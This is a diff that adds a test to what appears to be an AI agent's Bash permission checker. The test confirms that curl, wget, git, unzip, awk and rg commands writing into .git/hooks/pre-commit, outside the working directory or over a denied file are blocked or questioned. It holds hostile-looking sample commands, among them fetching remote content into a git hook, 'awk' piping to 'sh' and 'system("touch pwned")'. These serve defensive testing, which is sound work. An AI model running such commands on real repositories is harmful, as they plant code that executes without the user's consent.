@@ -415,6 +415,77 @@ describe("Bash under permission rules", () => {
         assert.strictEqual((yield* call("Bash", { command: "tar -cf out.tar src && tar -tf out.tar" }, context)).text, "src/\nsrc/a.txt")
       }).pipe(Effect.provide(runtimeLayer())))
 
+    it.scopedLive("curl, wget, git, unzip and awk: the files their options write are subjects, not covered by Bash(x:*)", () =>
+      Effect.gen(function*() {
+        const dir = yield* tempDir
+        const outside = yield* tempDir
+        fs.mkdirSync(path.join(dir, ".git", "hooks"), { recursive: true })
+        fs.writeFileSync(path.join(dir, "page.txt"), "page\n")
+        fs.writeFileSync(path.join(dir, "keep.txt"), "keep\n")
+        const allow = ["Bash(curl:*)", "Bash(wget:*)", "Bash(git:*)", "Bash(unzip:*)", "Bash(awk:*)", "Bash(rg:*)"]
+        const context = ruled(dir, { allow, deny: ["Edit(./keep.txt)"] })
+        const hook = path.join(dir, ".git", "hooks", "pre-commit")
+        const protectedCases: Array<readonly [string, string]> = [
+          ["curl -sSo .git/hooks/pre-commit https://example.invalid/x", hook],
+          ["curl --output .git/hooks/pre-commit https://example.invalid/x", hook],
+          ["curl --output-dir .git/hooks -o pre-commit https://example.invalid/x", hook],
+          ["curl -O https://example.invalid/x/pre-commit --output-dir .git/hooks", path.dirname(hook)],
+          ["wget -O .git/hooks/pre-commit https://example.invalid/x", hook],
+          ["wget --output-document=.git/hooks/pre-commit https://example.invalid/x", hook],
+          ["wget -P .git/hooks https://example.invalid/pre-commit", path.dirname(hook)],
+          ["git diff --output=.git/hooks/pre-commit", hook],
+          ["git log --output .git/hooks/pre-commit", hook],
+          ["git show HEAD --output=.git/hooks/pre-commit", hook],
+          ["unzip -o a.zip -d .git/hooks", path.join(dir, ".git", "hooks")]
+        ]
+        for (const [command, file] of protectedCases) {
+          assert.strictEqual(question((yield* call("Bash", { command }, context)).text), protectedWrite(file), command)
+        }
+        yield* asksOutside(context, dir, [
+          [`curl -o ${outside}/x https://example.invalid/x`, path.join(outside, "x")],
+          [`wget -P ${outside} https://example.invalid/x`, outside],
+          [`git diff --output=${outside}/p`, path.join(outside, "p")],
+          [`unzip a.zip -d ${outside}`, outside]
+        ])
+        // Writing `.` whole (a name the server picks, a recursive download, an extraction) meets the deny rule.
+        const denials = [
+          "curl -o keep.txt https://example.invalid/x",
+          "wget -Okeep.txt https://example.invalid/x",
+          "curl -OJ https://example.invalid/x",
+          "wget -r https://example.invalid/",
+          "unzip a.zip"
+        ]
+        for (const command of denials) {
+          assert.strictEqual(
+            (yield* call("Bash", { command }, context)).text,
+            `Permission to use Bash with command ${command} has been denied.`,
+            command
+          )
+        }
+        const opaque: Array<readonly [string, string]> = [
+          [`awk '{ print > "${hook}" }' page.txt`, "awk's program may write files or run commands (a redirection, a " +
+            "pipe, system(), getline <), which the analysis does not follow."],
+          ["awk 'BEGIN { system(\"touch pwned\") }'", "awk's program may write files or run commands (a redirection, " +
+            "a pipe, system(), getline <), which the analysis does not follow."],
+          ["awk '{ print | \"sh\" }' page.txt", "awk's program may write files or run commands (a redirection, a " +
+            "pipe, system(), getline <), which the analysis does not follow."],
+          ["rg --pre=./run x", "rg --pre runs another program on every file it searches."],
+          ["curl -K opts https://example.invalid/x", "curl -K reads options (output files among them) from a file the " +
+            "analysis cannot see."]
+        ]
+        for (const [command, reason] of opaque) {
+          assert.strictEqual(question((yield* call("Bash", { command }, context)).text), `Bash with command ${command} needs permission: ${reason}`)
+        }
+        assert.isFalse(fs.existsSync(hook))
+        assert.isFalse(fs.existsSync(path.join(dir, "pwned")))
+        assert.strictEqual(fs.readFileSync(path.join(dir, "keep.txt"), "utf8"), "keep\n")
+        // Inside the working directories, what they write rides on their rule; an awk comparison is no redirection.
+        const fetched = yield* call("Bash", { command: `curl -s -o copy.txt file://${path.join(dir, "page.txt")}` }, context)
+        assert.strictEqual(fetched.text, "(Bash completed with no output)")
+        assert.strictEqual(fs.readFileSync(path.join(dir, "copy.txt"), "utf8"), "page\n")
+        assert.strictEqual((yield* call("Bash", { command: "awk 'length($0) > 3 { print }' page.txt" }, context)).text, "page")
+      }).pipe(Effect.provide(runtimeLayer())))
+
     it.scopedLive("Bash(sed:*) does not cover a sed script that writes files or runs commands", () =>
       Effect.gen(function*() {
         const dir = yield* tempDir
